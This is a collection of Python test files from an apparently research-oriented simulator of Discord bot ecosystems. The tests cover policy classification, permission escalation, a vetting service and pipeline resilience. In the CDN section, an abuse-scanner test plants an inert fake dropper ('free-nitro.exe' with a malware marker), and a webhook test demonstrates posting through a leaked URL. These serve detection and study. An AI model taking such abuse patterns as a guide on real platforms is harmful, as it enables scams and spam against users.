        for category, sentences in UNLISTED_SYNONYM_SENTENCES.items():
            for sentence in sentences:
                assert categories_in_text(sentence.format(name="X")) == set(), sentence


class TestNaiveBayes:
    def test_untrained_predicts_nothing(self):
        model = NaiveBayesTraceability()
        assert model.predict("we collect everything") == frozenset()

    def test_learns_standard_corpus(self):
        train = build_labelled_corpus(400, seed=1)
        test = build_labelled_corpus(150, seed=2)
        model = NaiveBayesTraceability()
        model.train(train)
        report = model.evaluate(test)
        assert report.subset_accuracy > 0.8
        assert report.macro_f1() > 0.9

    def test_learns_unlisted_synonyms(self):
        """Trained on variant policies, NB catches what keywords cannot."""
        train = build_labelled_corpus(500, seed=3, unlisted_fraction=0.5)
        test = build_labelled_corpus(200, seed=4, unlisted_fraction=1.0)
        model = NaiveBayesTraceability()
        model.train(train)
        nb_report = model.evaluate(test)
        keyword_report = keyword_baseline_evaluation(test)
        assert keyword_report.subset_accuracy == 0.0  # fully blind
        assert nb_report.subset_accuracy > 0.7
        assert nb_report.macro_f1() > keyword_report.macro_f1() + 0.3

    def test_keyword_baseline_perfect_on_standard_corpus(self):
        test = build_labelled_corpus(200, seed=5)
        report = keyword_baseline_evaluation(test)
        assert report.subset_accuracy == 1.0

    def test_classify_levels(self):
        train = build_labelled_corpus(400, seed=6)
        model = NaiveBayesTraceability()
        model.train(train)
        assert model.classify("") == "broken"
        rng = random.Random(7)
        all_four = PolicySpec(present=True, categories=frozenset(CATEGORIES), generic=False, tailored=True)
        assert model.classify(render_policy(all_four, "B", rng)) == "complete"

    def test_metrics_edge_cases(self):
        from repro.traceability.mlmodel import CategoryMetrics

        empty = CategoryMetrics()
        assert empty.precision == 1.0 and empty.recall == 1.0 and empty.f1 == 1.0
        bad = CategoryMetrics(false_positives=3)
        assert bad.precision == 0.0
