"""Tests for ecosystem evolution and longitudinal analysis."""

import pytest

from repro.analysis.longitudinal import compare_snapshots, trend
from repro.ecosystem.evolution import EvolutionConfig, evolve_ecosystem
from repro.ecosystem.generator import EcosystemConfig, InviteStatus, generate_ecosystem


@pytest.fixture(scope="module")
def base_eco():
    return generate_ecosystem(EcosystemConfig(n_bots=800, seed=77, honeypot_window=50))


@pytest.fixture(scope="module")
def evolved(base_eco):
    return evolve_ecosystem(base_eco, EvolutionConfig(), seed=5)


class TestEvolution:
    def test_original_untouched(self, base_eco):
        snapshot = {bot.name: bot.permissions.value for bot in base_eco.bots}
        evolve_ecosystem(base_eco, seed=9)
        assert {bot.name: bot.permissions.value for bot in base_eco.bots} == snapshot

    def test_churn_rates_applied(self, base_eco, evolved):
        after, log = evolved
        assert len(log.removed) == pytest.approx(0.04 * 800, abs=20)
        assert len(log.added) == int(800 * 0.06)
        expected_total = 800 - len(log.removed) + len(log.added)
        assert len(after.bots) == expected_total

    def test_escalations_add_permissions(self, base_eco, evolved):
        after, log = evolved
        assert log.escalated  # some bots escalated
        before_by_name = {bot.name: bot for bot in base_eco.bots}
        after_by_name = {bot.name: bot for bot in after.bots}
        for name, added in log.escalated.items():
            assert added
            old = before_by_name[name].permissions
            new = after_by_name[name].permissions
            assert old.is_subset(new)
            assert new.value != old.value

    def test_policy_adopters_gain_valid_policies(self, base_eco, evolved):
        after, log = evolved
        after_by_name = {bot.name: bot for bot in after.bots}
        for name in log.policy_adopters:
            bot = after_by_name[name]
            assert bot.policy.present and bot.policy.link_valid
            assert bot.policy_text

    def test_new_bots_have_fresh_client_ids(self, base_eco, evolved):
        after, log = evolved
        ids = [bot.client_id for bot in after.bots]
        assert len(set(ids)) == len(ids)

    def test_deterministic(self, base_eco):
        first, _ = evolve_ecosystem(base_eco, seed=3)
        second, _ = evolve_ecosystem(base_eco, seed=3)
        assert [bot.name for bot in first.bots] == [bot.name for bot in second.bots]

    def test_broken_invites_logged(self, base_eco, evolved):
        after, log = evolved
        after_by_name = {bot.name: bot for bot in after.bots}
        for name in log.invites_broken:
            assert after_by_name[name].invite_status in (InviteStatus.REMOVED, InviteStatus.MALFORMED)


class TestComparison:
    def test_delta_matches_evolution_log(self, base_eco, evolved):
        after, log = evolved
        delta = compare_snapshots(base_eco, after)
        assert set(delta.removed_bots) == set(log.removed)
        assert set(delta.added_bots) == set(log.added)
        # Escalations recorded by the diff are exactly the logged ones whose
        # invite survived the epoch.
        diffed = {record.bot_name for record in delta.escalations}
        logged = {name for name in log.escalated if name not in log.invites_broken}
        assert diffed == logged
        assert set(delta.policy_adopters) == set(log.policy_adopters)

    def test_escalation_risk_deltas_nonnegative(self, base_eco, evolved):
        after, _ = evolved
        delta = compare_snapshots(base_eco, after)
        for record in delta.escalations:
            assert record.risk_delta >= 0.0
        assert delta.mean_risk_delta >= 0.0

    def test_gained_administrator_subset(self, base_eco, evolved):
        after, _ = evolved
        delta = compare_snapshots(base_eco, after)
        for name in delta.gained_administrator():
            record = next(r for r in delta.escalations if r.bot_name == name)
            assert "administrator" in record.added_permissions
            assert record.risk_after == 1.0

    def test_identical_snapshots_empty_delta(self, base_eco):
        delta = compare_snapshots(base_eco, base_eco)
        assert not delta.added_bots and not delta.removed_bots
        assert not delta.escalations and not delta.policy_adopters


class TestTrend:
    def test_multi_epoch_series(self, base_eco):
        snapshots = [base_eco]
        current = base_eco
        for epoch in range(3):
            current, _ = evolve_ecosystem(current, seed=100 + epoch)
            snapshots.append(current)
        points = trend(snapshots)
        assert [point.epoch for point in points] == [0, 1, 2, 3]
        for point in points:
            assert 0.4 < point.admin_rate < 0.7
            assert 0.0 <= point.mean_risk <= 1.0
        # Population grows: entrants outpace removals at default rates.
        assert points[-1].total_bots > points[0].total_bots

    def test_policy_rate_monotone_under_adoption(self, base_eco):
        """Policy adoption only adds policies, so the rate trends upward."""
        config = EvolutionConfig(removal_rate=0.0, new_bot_rate=0.0, policy_adoption_rate=0.1)
        current = base_eco
        rates = [trend([current])[0].policy_rate]
        for epoch in range(3):
            current, _ = evolve_ecosystem(current, config, seed=200 + epoch)
            rates.append(trend([current])[0].policy_rate)
        assert rates == sorted(rates)
        assert rates[-1] > rates[0]
