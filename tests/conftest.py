"""Shared fixtures.

Heavy world-building fixtures are session-scoped: the small ecosystem and
the end-to-end pipeline run are deterministic (seeded), so sharing them
across tests is safe and keeps the suite fast.
"""

from __future__ import annotations

import pytest

from repro.core.config import PipelineConfig
from repro.core.pipeline import AssessmentPipeline, PipelineWorld
from repro.discordsim.platform import DiscordPlatform
from repro.ecosystem.generator import Ecosystem, EcosystemConfig, generate_ecosystem
from repro.web.network import VirtualClock, VirtualInternet


@pytest.fixture(autouse=True)
def _pristine_disk():
    """The storage-fault shim is process-global; never let it leak across tests."""
    from repro.core.storage import uninstall_faults

    uninstall_faults()
    yield
    uninstall_faults()


@pytest.fixture
def clock() -> VirtualClock:
    return VirtualClock()


@pytest.fixture
def internet(clock: VirtualClock) -> VirtualInternet:
    return VirtualInternet(clock, seed=7)


@pytest.fixture
def platform(clock: VirtualClock) -> DiscordPlatform:
    return DiscordPlatform(clock)


@pytest.fixture(scope="session")
def small_ecosystem() -> Ecosystem:
    """A 600-bot population used by read-only tests."""
    return generate_ecosystem(EcosystemConfig(n_bots=600, seed=42, honeypot_window=60))


@pytest.fixture(scope="session")
def pipeline_config() -> PipelineConfig:
    return PipelineConfig().scaled(n_bots=600, honeypot_sample_size=60)


@pytest.fixture(scope="session")
def pipeline_result(pipeline_config: PipelineConfig):
    """One full end-to-end run shared by all integration assertions."""
    pipeline = AssessmentPipeline(pipeline_config)
    return pipeline.run()
