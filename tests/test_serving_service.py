"""Tests for the long-lived vetting service (repro.serving)."""

import dataclasses
import json

import pytest

from repro.discordsim import behaviors
from repro.discordsim.permissions import Permission, Permissions
from repro.ecosystem.generator import EcosystemConfig, InviteStatus, generate_ecosystem
from repro.ecosystem.policies import PolicySpec
from repro.serving import ServicePolicy, VettingService
from repro.sites.botwebsites import BotWebsiteBuilder
from repro.web.client import HttpClient
from repro.web.network import VirtualClock, VirtualInternet

#: Short observation so full vets stay cheap in wall time; no warmup so
#: tests that don't exercise readiness skip the warming window.
QUICK = ServicePolicy(warmup=0.0, honeypot_observation=600.0, honeypot_overhead=60.0)


@pytest.fixture(scope="module")
def ecosystem():
    return generate_ecosystem(EcosystemConfig(n_bots=120, seed=88, honeypot_window=20))


def build_world(ecosystem, policy=QUICK, seed=9):
    clock = VirtualClock()
    internet = VirtualInternet(clock, seed=seed)
    BotWebsiteBuilder(ecosystem).register(internet)
    service = VettingService(internet, ecosystem.bots, policy=policy, seed=seed)
    client = HttpClient(internet, client_id="test-driver")
    return internet, service, client


def clean_bot(ecosystem, name=None, website=True):
    """A bot that passes every static gate (same recipe as test_vetting)."""
    bot = next(
        b
        for b in ecosystem.bots
        if b.invite_status is InviteStatus.VALID and b.behavior == behaviors.BENIGN
    )
    clone = dataclasses.replace(bot)
    if name is not None:
        clone.name = name
    clone.permissions = Permissions.of(Permission.SEND_MESSAGES, Permission.EMBED_LINKS)
    clone.policy = PolicySpec(present=True, categories=frozenset({"collect", "use"}), link_valid=True)
    clone.github = None
    if not website:
        clone.website_host = None
        clone.policy = PolicySpec(present=False)
    return clone


def get_json(client, service, path):
    response = client.get(f"https://{service.hostname}{path}")
    return response, json.loads(response.body)


class TestVetEndpoint:
    def test_miss_then_hit(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        name = ecosystem.bots[0].name
        first, payload = get_json(client, service, f"/vet/{name}")
        assert first.status == 200
        assert payload["cache"] == "miss"
        assert payload["bot"] == name
        assert isinstance(payload["approved"], bool)
        second, payload = get_json(client, service, f"/vet/{name}")
        assert second.status == 200
        assert payload["cache"] == "hit"
        assert not payload["stale"]
        assert service.cache.hits == 1
        assert service.metrics.served == 2

    def test_unknown_bot_404(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        response, payload = get_json(client, service, "/vet/NoSuchBot")
        assert response.status == 404
        assert "unknown bot" in payload["error"]
        assert service.metrics.not_found == 1

    def test_full_vet_runs_honeypot(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        bot = clean_bot(ecosystem, name="CleanCandidate")
        service.directory[bot.name] = bot
        _, payload = get_json(client, service, f"/vet/{bot.name}")
        assert payload["approved"], payload["reasons"]
        assert not payload["degraded"]
        assert payload["stages"]["honeypot"] == "completed"
        # The honeypot charges its measured sandbox consumption, so the
        # verdict's virtual latency reflects the observation window.
        assert payload["virtual_latency"] >= QUICK.honeypot_observation

    def test_cached_hit_is_cheap(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        bot = clean_bot(ecosystem, name="CheapHit")
        service.directory[bot.name] = bot
        _, cold = get_json(client, service, f"/vet/{bot.name}")
        _, warm = get_json(client, service, f"/vet/{bot.name}")
        assert warm["cache"] == "hit"
        assert warm["virtual_latency"] <= 1.0 < cold["virtual_latency"]


class TestHealth:
    def test_readyz_warms_up_then_ready(self, ecosystem):
        policy = dataclasses.replace(QUICK, warmup=120.0)
        internet, service, client = build_world(ecosystem, policy=policy)
        warming = client.get(f"https://{service.hostname}/readyz")
        assert warming.status == 503
        assert "Retry-After" in warming.headers
        internet.clock.sleep(121.0)
        ready, payload = get_json(client, service, "/readyz")
        assert ready.status == 200
        assert payload["ready"]

    def test_readyz_unready_past_high_water(self, ecosystem):
        policy = dataclasses.replace(QUICK, queue_capacity=4, ready_high_water=0.5)
        internet, service, client = build_world(ecosystem, policy=policy)
        horizon = internet.clock.now() + 10_000.0
        service.queue.settle(horizon)
        service.queue.settle(horizon)
        response, payload = get_json(client, service, "/readyz")
        assert response.status == 503
        assert not payload["ready"]
        assert "Retry-After" in response.headers

    def test_healthz_reports_the_serving_stack(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        get_json(client, service, f"/vet/{ecosystem.bots[0].name}")
        response, payload = get_json(client, service, "/healthz")
        assert response.status == 200
        assert payload["status"] == "ok"
        assert payload["queue_capacity"] == QUICK.queue_capacity
        assert set(payload["bulkheads"]) == {"traceability", "code", "honeypot"}
        assert "degraded_mode" in payload
        assert payload["ledger"]["dropped"] == 0


class TestUpdatesAndAudits:
    def test_update_invalidates_and_forces_revalidation(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        name = ecosystem.bots[1].name
        get_json(client, service, f"/vet/{name}")
        response = client.post(f"https://{service.hostname}/bots/{name}/update")
        assert response.status == 200
        assert json.loads(response.body)["invalidated"]
        _, payload = get_json(client, service, f"/vet/{name}")
        assert payload["cache"] == "revalidated"
        assert not payload["stale"]
        assert service.metrics.revalidations == 1
        assert service.cache.invalidations == 1

    def test_update_unknown_bot_404(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        response = client.post(f"https://{service.hostname}/bots/NoSuchBot/update")
        assert response.status == 404

    def test_audit_registered_roster(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        roster = [bot.name for bot in ecosystem.bots[:4]]
        service.register_guild("community-1", roster)
        response, payload = get_json(client, service, "/audit/community-1")
        assert response.status == 200
        assert payload["guild"] == "community-1"
        assert len(payload["bots"]) == 4
        assert payload["approved"] + payload["rejected"] == 4

    def test_audit_unknown_guild_404(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        response, _ = get_json(client, service, "/audit/nowhere")
        assert response.status == 404

    def test_audit_reuses_fresh_verdicts(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        roster = [bot.name for bot in ecosystem.bots[:3]]
        service.register_guild("community-2", roster)
        for name in roster:
            get_json(client, service, f"/vet/{name}")
        hits_before = service.cache.hits
        _, payload = get_json(client, service, "/audit/community-2")
        assert all(entry["cache"] == "hit" for entry in payload["bots"])
        assert service.cache.hits == hits_before + 3


class TestExceptionFirewall:
    def test_internal_error_becomes_503_with_ledger_record(self, ecosystem, monkeypatch):
        internet, service, client = build_world(ecosystem)

        def explode(bot, verdict):
            raise RuntimeError("stage blew up")

        monkeypatch.setattr(service.pipeline, "review_static", explode)
        faults_before = len(service.ledger)
        # Pick a bot whose invite resolves: broken submissions are rejected
        # before the static stage and would never reach the mocked explosion.
        target = next(b for b in ecosystem.bots if b.has_valid_permissions)
        response = client.get(f"https://{service.hostname}/vet/{target.name}")
        assert response.status == 503
        assert "Retry-After" in response.headers
        assert len(service.ledger) == faults_before + 1
        assert service.ledger.records[-1].error_class == "RuntimeError"
        assert service.metrics.errors_5xx == 1


class TestRestart:
    def test_restart_preserves_verdict_store_and_counters(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        name = ecosystem.bots[2].name
        get_json(client, service, f"/vet/{name}")
        durable = {"cache": service.cache.state_dict(), "counters": service.metrics.counters_dict()}

        replacement = VettingService(
            internet, service.directory, policy=service.policy, seed=9, hostname=service.hostname
        )
        replacement.restore_state(durable)
        _, payload = get_json(client, replacement, f"/vet/{name}")
        assert payload["cache"] == "hit"
        # Counters carried across the restart: the first vet plus this hit.
        assert replacement.metrics.served == 2


class TestVerdictCacheLRU:
    def make_cache(self, ecosystem, capacity=3):
        from repro.serving import VerdictCache

        cache = VerdictCache(max_entries=capacity)
        bots = {bot.name: bot for bot in ecosystem.bots[: capacity + 2]}
        for name, bot in list(bots.items())[:capacity]:
            cache.store(bot, {"bot": name}, now=0.0)
        return cache, list(bots.values())

    def test_lookup_refresh_saves_hot_entry_under_pressure(self, ecosystem):
        cache, bots = self.make_cache(ecosystem)
        oldest = bots[0]
        # The oldest-stored entry is also the hottest: touch it, then
        # overflow the cache.  FIFO would evict it; LRU must not.
        assert cache.lookup(oldest, now=1.0)[0] == "fresh"
        cache.store(bots[3], {"bot": bots[3].name}, now=2.0)
        assert cache.evictions == 1
        assert oldest.name in cache.entries
        assert bots[1].name not in cache.entries  # the actual LRU went

    def test_stale_hit_also_refreshes_recency(self, ecosystem):
        cache, bots = self.make_cache(ecosystem)
        cache.invalidate(bots[0].name)
        assert cache.lookup(bots[0], now=1.0)[0] == "stale"
        cache.store(bots[3], {"bot": bots[3].name}, now=2.0)
        assert bots[0].name in cache.entries
        assert bots[1].name not in cache.entries

    def test_eviction_pressure_accounting(self, ecosystem):
        cache, bots = self.make_cache(ecosystem)
        for index, extra in enumerate(bots[3:5]):
            cache.store(extra, {"bot": extra.name}, now=float(index))
        assert cache.evictions == 2
        assert len(cache) == 3

    def test_state_dict_round_trips_recency_order(self, ecosystem):
        from repro.serving import VerdictCache

        cache, bots = self.make_cache(ecosystem)
        assert cache.lookup(bots[0], now=1.0)[0] == "fresh"
        restored = VerdictCache(max_entries=3)
        restored.restore_state(cache.state_dict())
        assert list(restored.entries) == list(cache.entries)
        assert restored.evictions == cache.evictions
        # The restored cache evicts the same LRU victim the original would.
        restored.store(bots[3], {"bot": bots[3].name}, now=2.0)
        assert bots[0].name in restored.entries
        assert bots[1].name not in restored.entries
