"""Tests for webhooks and the public CDN (plus the abuse scanner)."""

import pytest

from repro.analysis.cdn_abuse import MALWARE_MARKER, CdnAbuseScanner, looks_malicious
from repro.discordsim.cdn import CDN_HOSTNAME, DiscordCDN
from repro.discordsim.guild import PermissionDenied
from repro.discordsim.models import Attachment
from repro.discordsim.permissions import Permission, Permissions
from repro.discordsim.webhooks import WebhookError, WebhookRegistry
from repro.web.client import HttpClient


@pytest.fixture
def world(platform):
    owner = platform.create_user("owner", phone_verified=True)
    guild = platform.create_guild(owner, "G")
    channel = guild.text_channels()[0]
    return platform, owner, guild, channel


class TestWebhooks:
    def test_create_requires_manage_webhooks(self, world):
        platform, owner, guild, channel = world
        pleb = platform.create_user("pleb")
        platform.join_guild(pleb.user_id, guild.guild_id)
        registry = WebhookRegistry(platform)
        with pytest.raises(PermissionDenied):
            registry.create(pleb.user_id, guild.guild_id, channel.channel_id, "hook")

    def test_owner_creates_and_executes(self, world):
        platform, owner, guild, channel = world
        registry = WebhookRegistry(platform)
        webhook = registry.create(owner.user_id, guild.guild_id, channel.channel_id, "alerts")
        message = registry.execute(webhook.webhook_id, webhook.token, "deploy finished")
        assert channel.messages[-1] is message
        assert message.author_is_bot
        assert message.author_id == webhook.webhook_id

    def test_execution_needs_no_permissions_at_all(self, world):
        """The leaked-URL property: possession of the URL is authority."""
        platform, owner, guild, channel = world
        registry = WebhookRegistry(platform)
        webhook = registry.create(owner.user_id, guild.guild_id, channel.channel_id, "leaky")
        # Executed "by" nobody — no account, no membership, no check.
        message = registry.execute_url(webhook.url, "spam from outside")
        assert message.content == "spam from outside"
        assert registry.executions == 1

    def test_bad_token_rejected(self, world):
        platform, owner, guild, channel = world
        registry = WebhookRegistry(platform)
        webhook = registry.create(owner.user_id, guild.guild_id, channel.channel_id, "hook")
        with pytest.raises(WebhookError):
            registry.execute(webhook.webhook_id, "wrong-token", "x")
        assert registry.rejected_executions == 1

    def test_malformed_url_rejected(self, world):
        platform, owner, guild, channel = world
        registry = WebhookRegistry(platform)
        with pytest.raises(WebhookError):
            registry.execute_url("https://discord.sim/not/a/hook", "x")

    def test_delete_requires_permission(self, world):
        platform, owner, guild, channel = world
        registry = WebhookRegistry(platform)
        webhook = registry.create(owner.user_id, guild.guild_id, channel.channel_id, "hook")
        pleb = platform.create_user("pleb")
        platform.join_guild(pleb.user_id, guild.guild_id)
        with pytest.raises(PermissionDenied):
            registry.delete(pleb.user_id, webhook.webhook_id)
        registry.delete(owner.user_id, webhook.webhook_id)
        with pytest.raises(WebhookError):
            registry.execute(webhook.webhook_id, webhook.token, "x")

    def test_for_channel_listing(self, world):
        platform, owner, guild, channel = world
        registry = WebhookRegistry(platform)
        registry.create(owner.user_id, guild.guild_id, channel.channel_id, "a")
        registry.create(owner.user_id, guild.guild_id, channel.channel_id, "b")
        assert len(registry.for_channel(channel.channel_id)) == 2

    def test_webhook_messages_reach_gateway(self, world):
        platform, owner, guild, channel = world
        registry = WebhookRegistry(platform)
        webhook = registry.create(owner.user_id, guild.guild_id, channel.channel_id, "hook")
        seen = []
        from repro.discordsim.gateway import EventType

        platform.events.subscribe(seen.append, EventType.MESSAGE_CREATE)
        registry.execute(webhook.webhook_id, webhook.token, "hi")
        assert len(seen) == 1


class TestCDN:
    def _post_attachment(self, platform, owner, guild, channel, filename="notes.txt", content="hello"):
        attachment = Attachment(
            attachment_id=platform.snowflakes.next_id(),
            filename=filename,
            content_type="text/plain",
            size=len(content),
            content=content,
        )
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "file", [attachment])
        return attachment

    def test_posted_attachment_becomes_public(self, world, internet):
        platform, owner, guild, channel = world
        cdn = DiscordCDN(platform)
        cdn.register(internet)
        attachment = self._post_attachment(platform, owner, guild, channel)
        url = cdn.url_for(channel.channel_id, attachment)
        # A totally unrelated client (no account!) fetches the bytes.
        response = HttpClient(internet, client_id="random-stranger").get(url)
        assert response.status == 200
        assert response.body == "hello"
        assert cdn.entry_for_url(url).fetches == 1

    def test_unknown_file_404(self, world, internet):
        platform, owner, guild, channel = world
        cdn = DiscordCDN(platform)
        cdn.register(internet)
        response = HttpClient(internet).get(f"https://{CDN_HOSTNAME}/attachments/1/2/ghost.txt")
        assert response.status == 404

    def test_inventory_tracks_all_posts(self, world, internet):
        platform, owner, guild, channel = world
        cdn = DiscordCDN(platform)
        cdn.register(internet)
        for index in range(3):
            self._post_attachment(platform, owner, guild, channel, filename=f"f{index}.txt")
        assert cdn.total_hosted == 3
        assert len(cdn.hosted_urls()) == 3


class TestAbuseScanner:
    def test_marker_detection(self):
        assert looks_malicious(f"MZ...{MALWARE_MARKER}...")
        assert not looks_malicious("just a readme")

    def test_scan_finds_planted_malware(self, world, internet):
        platform, owner, guild, channel = world
        cdn = DiscordCDN(platform)
        cdn.register(internet)
        benign = Attachment(platform.snowflakes.next_id(), "notes.txt", "text/plain", 5, content="hello")
        dropper = Attachment(
            platform.snowflakes.next_id(),
            "free-nitro.exe",
            "application/octet-stream",
            64,
            content=f"MZ{MALWARE_MARKER}payload",
        )
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "files", [benign, dropper])
        report = CdnAbuseScanner(internet).scan(cdn)
        assert report.urls_scanned == 2
        assert report.malicious_count == 1
        assert report.executable_payloads == 1
        assert "free-nitro.exe" in report.malicious_urls[0]
        assert 0 < report.malicious_fraction < 1
