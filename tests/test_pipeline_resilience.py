"""Pipeline-level resilience: stage degradation, fault ledger, checkpoint/resume.

The headline integration test here is the one the robustness work is judged
by: kill the pipeline after stage 2, resume from the ``PipelineCheckpoint``,
and get the *same* statistics an uninterrupted run produces.
"""

from collections import Counter

import pytest

from repro.core.checkpoint import (
    STAGE_CODE,
    STAGE_CRAWL,
    STAGE_HONEYPOT,
    STAGE_TRACEABILITY,
    PipelineCheckpoint,
)
from repro.core.config import PipelineConfig
from repro.core.pipeline import AssessmentPipeline
from repro.scraper.topgg import ScrapedBot


def _config(**overrides) -> PipelineConfig:
    defaults = dict(n_bots=60, seed=3, honeypot_sample_size=10, validation_sample_size=20)
    defaults.update(overrides)
    return PipelineConfig(**defaults)


def _statistics(result) -> dict:
    """Everything the paper reports, as a comparable dict."""
    stats = {
        "bots": result.bots_collected,
        "active": result.active_bots,
        "listing_ids": sorted(bot.listing_id for bot in result.crawl.bots),
        "trace_classes": Counter(r.classification.value for r in result.traceability_results),
        "validation_accuracy": result.validation.accuracy if result.validation else None,
        "repo_languages": Counter(a.main_language for a in result.repo_analyses),
        "repos_with_checks": sum(1 for a in result.repo_analyses if a.performs_check),
    }
    if result.honeypot is not None:
        stats["honeypot_tested"] = result.honeypot.bots_tested
        stats["honeypot_flagged"] = sorted(o.bot_name for o in result.honeypot.flagged_bots)
        stats["honeypot_install_failures"] = result.honeypot.install_failures
    return stats


class TestCheckpointResume:
    def test_kill_after_stage_two_resumes_to_identical_statistics(self, tmp_path):
        reference = AssessmentPipeline(_config()).run()

        path = str(tmp_path / "pipeline.json")
        interrupted = AssessmentPipeline(_config(checkpoint_path=path))
        # Simulate the process dying at the top of stage 3.
        def killed(*args, **kwargs):
            raise KeyboardInterrupt

        interrupted.analyze_code = killed
        with pytest.raises(KeyboardInterrupt):
            interrupted.run()

        checkpoint = PipelineCheckpoint.load(path)
        assert checkpoint.completed_stages == [STAGE_CRAWL, STAGE_TRACEABILITY]

        resumed = AssessmentPipeline(_config(checkpoint_path=path)).run()
        assert resumed.stage_status[STAGE_CRAWL] == "resumed"
        assert resumed.stage_status[STAGE_TRACEABILITY] == "resumed"
        assert resumed.stage_status[STAGE_CODE] == "completed"
        assert resumed.stage_status[STAGE_HONEYPOT] == "completed"
        assert _statistics(resumed) == _statistics(reference)

    def test_checkpoint_snapshots_after_every_stage(self, tmp_path):
        path = str(tmp_path / "pipeline.json")
        result = AssessmentPipeline(_config(checkpoint_path=path)).run()
        checkpoint = PipelineCheckpoint.load(path)
        assert checkpoint.completed_stages == [
            STAGE_CRAWL,
            STAGE_TRACEABILITY,
            STAGE_CODE,
            STAGE_HONEYPOT,
        ]
        assert checkpoint.stage_status[STAGE_CRAWL] == "completed"
        assert result.stage_status[STAGE_HONEYPOT] == "completed"

    def test_fully_checkpointed_run_resumes_everything(self, tmp_path):
        path = str(tmp_path / "pipeline.json")
        first = AssessmentPipeline(_config(checkpoint_path=path)).run()
        second = AssessmentPipeline(_config(checkpoint_path=path)).run()
        assert all(status == "resumed" for status in second.stage_status.values())
        assert _statistics(second) == _statistics(first)


class TestCalmNeutrality:
    def test_run_without_chaos_has_clean_ledger(self):
        result = AssessmentPipeline(_config()).run()
        assert not result.degraded
        assert len(result.fault_ledger) == 0
        assert all(status == "completed" for status in result.stage_status.values())

    def test_calm_profile_matches_no_chaos_run(self):
        plain = AssessmentPipeline(_config()).run()
        calm = AssessmentPipeline(_config(chaos_profile="calm")).run()
        assert not calm.degraded
        assert _statistics(calm) == _statistics(plain)


class TestStageDegradation:
    def test_unknown_host_website_degrades_not_crashes(self):
        pipeline = AssessmentPipeline(_config(run_honeypot=False, run_code_analysis=False))
        ghost = ScrapedBot(
            listing_id=999_999,
            name="ghost",
            developer_tag="nobody#0000",
            tags=(),
            description="",
            guild_count=0,
            votes=0,
            invite_url=None,
            website_url="https://no-such-host.sim/",
            github_url=None,
            built_with=None,
        )
        faults = []
        results = pipeline.analyze_traceability(
            [ghost], on_fault=lambda *args: faults.append(args)
        )
        # DNS failure on the website is a classification outcome (broken
        # traceability), not a crash — the bot stays in the population.
        assert len(results) == 1
        assert not results[0].has_website

    def test_open_circuit_on_website_skips_and_records(self):
        config = _config(run_honeypot=False, stage_retry_budget=0)
        pipeline = AssessmentPipeline(config)
        _, crawl = pipeline.collect()
        with_sites = [bot for bot in crawl.with_valid_permissions() if bot.website_url][:3]
        assert with_sites
        host = AssessmentPipeline._host_of(with_sites[0].website_url)
        for _ in range(config.circuit_failure_threshold):
            pipeline.breakers.record_failure(host)

        faults = []
        results = pipeline.analyze_traceability(
            with_sites, on_fault=lambda *args: faults.append(args)
        )
        skipped = [f for f in faults if "traceability skipped" in f[3]]
        assert skipped and skipped[0][0] == host
        assert len(results) + sum(f[2] for f in faults) == len(with_sites)

    def test_osn_feed_outage_degrades_honeypot_stage(self, monkeypatch):
        from repro.honeypot.osn_source import OsnFeedSource
        from repro.web.network import ConnectionFailedError

        pipeline = AssessmentPipeline(_config(run_traceability=False, run_code_analysis=False))

        def dead_scrape(cls, *args, **kwargs):
            raise ConnectionFailedError("reddit.sim")

        monkeypatch.setattr(OsnFeedSource, "scrape", classmethod(dead_scrape))
        faults = []
        report = pipeline.run_honeypot(on_fault=lambda *args: faults.append(args))
        assert report.bots_tested > 0  # fell back to the generated feed
        assert any("OSN feed unavailable" in f[3] for f in faults)

    def test_degrade_on_faults_false_preserves_raise(self):
        from repro.web.network import NetworkError

        config = _config(degrade_on_faults=False, run_code_analysis=False, run_honeypot=False)
        pipeline = AssessmentPipeline(config)
        pipeline.world.internet.unregister("reddit.sim")

        def boom(*args, **kwargs):
            raise NetworkError("stage blew up")

        pipeline.analyze_traceability = boom
        with pytest.raises(NetworkError):
            pipeline.run()

    def test_stage_level_failure_marks_stage_failed(self):
        from repro.web.network import NetworkError

        pipeline = AssessmentPipeline(_config(run_code_analysis=False, run_honeypot=False))

        def boom(*args, **kwargs):
            raise NetworkError("stage blew up")

        pipeline.analyze_traceability = boom
        result = pipeline.run()
        assert result.stage_status[STAGE_TRACEABILITY] == "failed"
        assert result.fault_ledger.count(STAGE_TRACEABILITY) == 1
        assert result.stage_status[STAGE_CRAWL] == "completed"
