"""Tests for repro.web.http: URLs, headers, requests, responses."""

import pytest

from repro.web.http import Headers, Request, Response, Url


class TestUrlParsing:
    def test_parse_full_url(self):
        url = Url.parse("https://top.gg.sim:8443/bot/12?page=2&x=1#frag")
        assert url.scheme == "https"
        assert url.host == "top.gg.sim"
        assert url.port == 8443
        assert url.path == "/bot/12"
        assert url.query == "page=2&x=1"
        assert url.fragment == "frag"

    def test_parse_defaults_path_to_root(self):
        assert Url.parse("https://example.sim").path == "/"

    def test_parse_bare_path_is_relative(self):
        url = Url.parse("/bots/1?x=2")
        assert not url.is_absolute
        assert url.path == "/bots/1"
        assert url.query == "x=2"

    def test_str_roundtrip(self):
        raw = "https://example.sim/a/b?k=v#f"
        assert str(Url.parse(raw)) == raw

    def test_str_omits_default_port(self):
        assert str(Url.parse("https://example.sim/x")) == "https://example.sim/x"

    def test_equality_with_string(self):
        assert Url.parse("https://a.sim/x") == "https://a.sim/x"

    def test_hashable(self):
        assert len({Url.parse("https://a.sim/"), Url.parse("https://a.sim/")}) == 1


class TestUrlJoin:
    def test_join_absolute_reference_replaces(self):
        base = Url.parse("https://a.sim/x/y")
        assert str(base.join("https://b.sim/z")) == "https://b.sim/z"

    def test_join_root_relative(self):
        base = Url.parse("https://a.sim/x/y")
        assert str(base.join("/z")) == "https://a.sim/z"

    def test_join_sibling_relative(self):
        base = Url.parse("https://a.sim/x/y")
        assert str(base.join("z")) == "https://a.sim/x/z"

    def test_join_keeps_host_for_query_only(self):
